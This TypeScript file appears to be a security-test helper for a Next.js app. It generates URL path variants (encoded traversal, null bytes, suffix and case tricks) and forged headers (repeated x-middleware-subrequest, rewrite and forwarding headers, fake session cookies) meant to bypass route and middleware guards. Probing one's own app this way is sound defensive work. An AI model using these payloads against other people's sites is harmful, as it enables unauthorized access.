import { readFileSync } from "node:fs";

const five = (name: string) => Array(5).fill(name).join(":");

/** Alternative urlVariants that could bypass a path check. */
export function urlVariants(path: string, port: string): string[] {
  const build = readFileSync(".next/BUILD_ID", "utf8").trim();
  const rest = path.slice(2);
  const first = path.slice(1, 2);
  const code = first.charCodeAt(0).toString(16);
  return [
    path,
    `${path}/`,
    `${path}//`,
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/%2e${path}`,
    `/videos/%2e%2e${path}`,
    `/videos/..%2f${path.slice(1)}`,
    `/%${code}${rest}`,
    `/%25${code}${rest}`,
    `/${first.toUpperCase()}${rest}`,
    path.toUpperCase(),
    `${path};x`,
    `${path};.css`,
    `${path}/x.css`,
    `${path}%2fx.css`,
    `${path}%00`,
    `${path}%20`,
    `${path}.`,
    `${path}.json`,
    `${path}.html`,
    `${path}.rsc`,
    `${path}.txt`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}.segments/_index.segment.rsc`,
    `${path}?_rsc=1`,
    `${path}?__nextDataReq=1`,
    `${path}/index`,
    `${path}\\`,
    `\\${path.slice(1)}`,
    `/en${path}`,
    `/_next${path}`,
    `/_next/data/${build}${path}.json`,
    `/_next/data/${build}${path}.rsc`,
    `/_next/image?url=${encodeURIComponent(path)}&w=640&q=75`,
    `http://localhost:${port}${path}`,
  ];
}

/** Headers that have bypassed guards of frameworks or proxies. */
export const forgedHeaders = (path: string): Record<string, string>[] => [
  ...["middleware", "src/middleware", "pages/_middleware", "proxy", "src/proxy"].flatMap((name) => [
    { "x-middleware-subrequest": name },
    { "x-middleware-subrequest": five(name) },
  ]),
  { "x-middleware-subrequest-id": "1" },
  { "x-middleware-next": "1" },
  { "x-middleware-rewrite": path },
  { "x-middleware-override-headers": "cookie", "x-middleware-request-cookie": "vitrine.session=x" },
  { "x-nextjs-data": "1" },
  { "x-nextjs-rewritten-path": path },
  { "x-matched-path": path },
  { "x-now-route-matches": "1=x" },
  { "x-invoke-path": path },
  { "x-original-url": path },
  { "x-rewrite-url": path },
  { "x-forwarded-host": "localhost", "x-forwarded-for": "127.0.0.1" },
  { "x-http-method-override": "GET" },
  { "next-resume": "1" },
  { "next-action": "x" },
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  { authorization: "Bearer x" },
  { cookie: "vitrine.session=x; next-auth.session-token=x; vitrine_member=1" },
];
